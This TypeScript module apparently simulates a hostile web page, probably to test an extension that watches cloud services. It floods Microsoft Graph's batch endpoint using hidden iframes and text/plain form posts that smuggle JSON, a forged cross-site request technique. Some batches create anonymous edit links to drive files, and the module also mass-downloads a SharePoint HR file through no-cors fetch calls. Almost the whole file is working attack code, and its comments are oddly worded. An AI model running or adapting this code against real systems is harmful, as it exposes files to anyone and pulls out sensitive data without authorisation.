/**
 * Runs in a page that floods, and sends requests to services that the extension watches. Any site
 * can post forms into frames of its own; what its scripts send is not shown to an extension that
 * may not see the site. A page of Contoso that is hostile can send by script. Bundled by flood.ts.
 */

/** At the same time. */
const FRAMES = 50;
const REQUESTS = 8;

interface Range {
  from: number;
  to: number;
}

interface Batches extends Range {
  parts: number;
  seriousEvery: number;
}

/**
 * Of so many requests; one in `seriousEvery` batches asks for links by which anybody can change a
 * file, the others download.
 */
function requestsOf(batch: number, { parts, seriousEvery }: Batches): object[] {
  return Array.from({ length: parts }, (_, part) => {
    const item = `/me/drive/items/01F${batch}P${part}`;
    return batch % seriousEvery === 0
      ? { id: `${part}`, method: 'POST', url: `${item}/createLink`, body: { type: 'edit', scope: 'anonymous' } }
      : { id: `${part}`, method: 'GET', url: `${item}/content` };
  });
}

const batchUrl = (batch: number) => `https://graph.microsoft.com/v1.0/$batch?n=${batch}`;

/**
 * By forms. Each frame takes the next when it has loaded, or has heard nothing for half a second:
 * what is downloaded loads nothing.
 */
export async function postBatches(batches: Batches): Promise<void> {
  const frames = Array.from({ length: FRAMES }, (_, index) =>
    Object.assign(document.createElement('iframe'), { name: `frame-${index}` }),
  );
  document.body.append(...frames);
  let next = batches.from;
  const work = async (frame: HTMLIFrameElement) => {
    while (next < batches.to) {
      const batch = next++;
      // A form as plain text is `name=value`: together they are JSON.
      const field = {
        type: 'hidden',
        name: `{"requests":${JSON.stringify(requestsOf(batch, batches))},"`,
        value: '":0}',
      };
      const form = Object.assign(document.createElement('form'), {
        action: batchUrl(batch),
        method: 'post',
        enctype: 'text/plain',
      });
      form.append(Object.assign(document.createElement('input'), field));
      form.target = frame.name;
      document.body.append(form);
      const loaded = new Promise(resolve => {
        frame.onload = resolve;
        setTimeout(resolve, 500);
      });
      form.submit();
      await loaded;
      form.remove();
    }
  };
  await Promise.all(frames.map(work));
  for (const frame of frames) frame.remove();
}

/** By script. */
export async function sendBatches(batches: Batches): Promise<void> {
  await inTurn(batches, batch =>
    send(batchUrl(batch), { method: 'POST', body: JSON.stringify({ requests: requestsOf(batch, batches) }) }),
  );
}

/** Downloads, one by one, by script. */
export async function sendSingle(range: Range): Promise<void> {
  const download = '/sites/hr/_layouts/15/download.aspx?UniqueId=0d149b90e7394297a01c90191ae775f0';
  await inTurn(range, at => send(`${download}&n=${at}`));
}

async function inTurn({ from, to }: Range, each: (at: number) => Promise<void>): Promise<void> {
  let next = from;
  const work = async () => {
    while (next < to) await each(next++);
  };
  await Promise.all(Array.from({ length: REQUESTS }, work));
}

/** What comes back says nothing here. */
async function send(url: string, options: RequestInit = {}): Promise<void> {
  await fetch(url, { ...options, mode: 'no-cors' }).catch(() => undefined);
}
